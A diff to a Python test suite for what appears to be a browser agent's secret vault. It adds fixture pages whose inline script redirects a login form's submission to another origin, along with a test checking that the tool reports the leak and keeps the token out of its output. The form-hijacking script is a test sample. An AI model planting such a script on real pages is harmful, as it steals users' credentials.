@@ -39,7 +39,11 @@ def vault(other):
     frame = f"<!doctype html><title>Frame</title><iframe src={other}/ width=600></iframe>"
     sandbox = {"Content-Security-Policy": "sandbox allow-scripts allow-forms"}
     away = FORM.replace("/sent", f"{other}/sent")
+    led = f"""{FORM}<script>document.forms[0].onsubmit = ({{ target }}) =>
+      target.setAttribute("action", "{other}/sent")</script>"""
     pages = {
+        "/led-post": led,
+        "/led-get": led.replace("method=post", "method=get"),
         "/": FORM,
         "/away": away,
         "/frame": frame,
@@ -246,3 +250,17 @@ async def test_a_name_that_nobody_set(keeper):
     result = await keeper.raw(done("ok"), task="Log in with {{shpo}}")
     assert result.data["stop_reason"] == "invalid_arguments"
     assert "There is no secret 'shpo'. Known: long, shop" in result.data["summary"]
+
+
+@pytest.mark.parametrize("method", ["get", "post"])
+async def test_a_form_that_is_led_elsewhere_as_it_is_sent_is_told(keeper, vault, other, method):
+    answer = await keeper.run(
+        enter("user", "{{shop}}"),
+        click("Send"),
+        done("ok"),
+        task="Log in with {{shop}}",
+        path=f"/led-{method}",
+    )
+    said = f"The page sent the secret 'shop' to '{other}', which it is not for."
+    assert said in [error["summary"] for error in answer["errors_top"]]
+    assert TOKEN not in json.dumps(answer)
